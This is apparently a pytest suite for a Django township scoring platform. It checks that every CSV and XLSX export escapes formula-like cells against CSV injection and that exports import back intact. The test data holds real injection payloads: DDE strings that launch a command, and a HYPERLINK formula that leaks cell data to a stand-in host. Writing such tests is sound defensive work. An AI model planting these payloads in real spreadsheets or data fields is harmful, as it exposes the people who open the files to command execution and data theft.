"""Issue 13, finding 3: no export carries a spreadsheet formula (OWASP CSV injection).

Every export goes through ``platform_core.tabular.write_table``, which escapes text
cells starting with = + - @, tab or CR (and their full-width forms) with a leading
``'``; numbers stay numbers. Importing an exported sheet back removes the mark.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
from io import StringIO

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from platform_core import admin_io
from platform_core.actors import Actor
from platform_core.households.imports import import_households
from platform_core.households.models import Household
from platform_core.scoring.imports import import_rules
from platform_core.scoring.models import Rule
from platform_core.scoring.services import record_entry
from platform_core.tabular import as_text, escape_cell, write_table
from tests import factories as f

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\t=1",
    "\r=1",
    "＝1+1",
    "-5+cmd|' /C calc'!A0",
]
HARMLESS = ["俞国明", "seen by the grid worker", "a=b", "1+1", "", "'quoted already"]


def read_csv(path) -> list[list[str]]:
    raw = path.read_bytes()
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def formula_cells(path) -> list[str]:
    """Coordinates of every formula cell (openpyxl reads formulas as data_type 'f')."""
    workbook = load_workbook(path)  # not data_only: formulas stay formulas
    return [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


# --- the one escaping function ----------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_finding_3_formula_text_is_escaped_and_stays_readable(payload):
    escaped = escape_cell(payload)
    assert escaped == "'" + payload
    assert as_text(escaped) == payload.strip()  # an imported export gets the text back


@pytest.mark.parametrize("value", [*HARMLESS, -5, 0, 12, 2.5, dt.date(2026, 3, 1), True, None])
def test_finding_3_numbers_and_harmless_text_are_unchanged(value):
    assert escape_cell(value) == value


def test_finding_3_csv_and_xlsx_carry_no_formula(tmp_path):
    header = ["note", "points", "=header"]
    rows = [[payload, -5, "x"] for payload in PAYLOADS] + [[text, 3, "y"] for text in HARMLESS]

    csv_path = tmp_path / "out.csv"
    assert write_table(csv_path, header, rows, bom=True) == len(rows)
    assert csv_path.read_bytes().startswith(codecs.BOM_UTF8)
    written = read_csv(csv_path)
    assert written[0] == ["note", "points", "'=header"]
    for (note, points, _), payload in zip(written[1:], PAYLOADS, strict=False):
        assert note == "'" + payload and points == "-5"  # a real number is written as one
    assert [r[0] for r in written[1 + len(PAYLOADS) :]] == HARMLESS

    xlsx_path = tmp_path / "out.xlsx"
    write_table(xlsx_path, header, rows)
    assert formula_cells(xlsx_path) == []
    sheet = load_workbook(xlsx_path).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("note", "points", "'=header")
    for (note, points, _), payload in zip(values[1:], PAYLOADS, strict=False):
        assert note == "'" + payload.replace("\r", "\n")  # XML keeps no bare CR
        assert points == -5 and isinstance(points, int)  # negative numbers stay numbers


# --- every export path -------------------------------------------------------------------


@pytest.fixture
def poisoned(township_a, in_township):
    """A ledger entry, a rule and a household whose text cells carry formula payloads."""
    with in_township(township_a):
        f.village("V01", "太湖村")
        Household.objects.filter(code="V01-0001").update(
            head_name="=cmd|' /C calc'!A0",
            address="@SUM(1+1)*cmd|' /C calc'!A0",
            phone="+8613800000001",
        )
        Rule.objects.filter(code="CR-04").update(title_en='=HYPERLINK("http://evil.example")')
        entry = record_entry(
            household=f.household("V01-0002"),
            rule=f.rule("CR-04"),
            occurred_on=dt.date(2026, 3, 4),
            recorder=f.person("recorder"),
            source="staff",
            evidence="-2+3",
            note="\t=1",
        )
    return entry


def _download(reply, tmp_path, name: str):
    path = tmp_path / name
    path.write_bytes(b"".join(reply.streaming_content))
    return path


def test_finding_3_admin_exports_escape_every_text_cell(client, township_a, poisoned, tmp_path):
    admin = f"/t/{township_a.code}/admin/"
    assert client.login(username="admin@jia.test", password="pw-jia")

    ledger = _download(client.get(admin + "scoring/scoreevent/export/csv/"), tmp_path, "l.csv")
    rows = read_csv(ledger)
    header, (row,) = rows[0], rows[1:]
    assert row[header.index("evidence")] == "'-2+3"
    assert row[header.index("note")] == "'\t=1"
    assert row[header.index("points")] == "-5"  # the number column: a number

    ledger_x = _download(client.get(admin + "scoring/scoreevent/export/xlsx/"), tmp_path, "l.xlsx")
    assert formula_cells(ledger_x) == []
    sheet = list(load_workbook(ledger_x).worksheets[0].iter_rows(values_only=True))
    assert sheet[1][sheet[0].index("points")] == -5

    homes_x = _download(client.get(admin + "households/household/export/xlsx/"), tmp_path, "h.xlsx")
    assert formula_cells(homes_x) == []
    homes = read_csv(
        _download(client.get(admin + "households/household/export/csv/"), tmp_path, "h.csv")
    )
    first = dict(zip(homes[0], homes[1], strict=True))
    assert first["head_name"] == "'=cmd|' /C calc'!A0"
    assert first["address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert first["phone"] == "'+8613800000001"


def test_finding_3_exported_households_import_back_unchanged(
    client, township_a, in_township, poisoned, tmp_path
):
    assert client.login(username="admin@jia.test", password="pw-jia")
    admin = f"/t/{township_a.code}/admin/"
    for fmt in ("csv", "xlsx"):
        path = _download(
            client.get(admin + f"households/household/export/{fmt}/"), tmp_path, f"h.{fmt}"
        )
        with in_township(township_a):
            result = import_households(path)
            assert result.updated == 3 and result.created == 0
            home = Household.objects.get(code="V01-0001")
            assert home.head_name == "=cmd|' /C calc'!A0"  # the escape mark is not stored
            assert home.phone == "+8613800000001"


def test_finding_3_export_rules_and_export_scores_commands(
    township_a, in_township, poisoned, tmp_path
):
    for name in ("rules.csv", "rules.xlsx"):
        path = tmp_path / name
        call_command("export_rules", "--township", township_a.code, str(path), stdout=StringIO())
        if name.endswith(".csv"):
            row = next(r for r in read_csv(path) if r[0] == "CR-04")
            assert row[2] == '\'=HYPERLINK("http://evil.example")' and row[4] == "-5"
        else:
            assert formula_cells(path) == []
        with in_township(township_a):
            import_rules(path, by=Actor.cli())
            assert Rule.objects.get(code="CR-04").title_en == '=HYPERLINK("http://evil.example")'
            assert Rule.objects.get(code="CR-04").points == -5

    scores = tmp_path / "scores.xlsx"
    call_command(
        "export_scores",
        "--township",
        township_a.code,
        "--period",
        "2026-03",
        str(scores),
        stdout=StringIO(),
    )
    assert formula_cells(scores) == []
    sheet = list(load_workbook(scores).worksheets[0].iter_rows(values_only=True))
    assert all(isinstance(row[1], int) for row in sheet[1:])  # scores stay numbers


def test_finding_3_wrong_role_and_other_township_get_no_export(
    client, township_a, township_b, poisoned
):
    """A household member of township A and township B's administrator download nothing."""
    from tests.api import member

    member(township_a, "home@jia.test", "household", household_code="V01-0001")
    assert client.login(username="home@jia.test", password="pw")
    reply = client.get(f"/t/{township_a.code}/admin/scoring/scoreevent/export/csv/")
    assert reply.status_code == 302 and "/login/" in reply["Location"]
    client.logout()
    assert client.login(username="admin@yi.test", password="pw-yi")
    reply = client.get(f"/t/{township_a.code}/admin/scoring/scoreevent/export/xlsx/")
    assert reply.status_code == 302 and "/login/" in reply["Location"]


def test_finding_3_an_unknown_export_format_is_refused():
    with pytest.raises(ValueError, match="unknown export format"):
        admin_io.table_response(["code"], [["=1"]], "ods", "x")
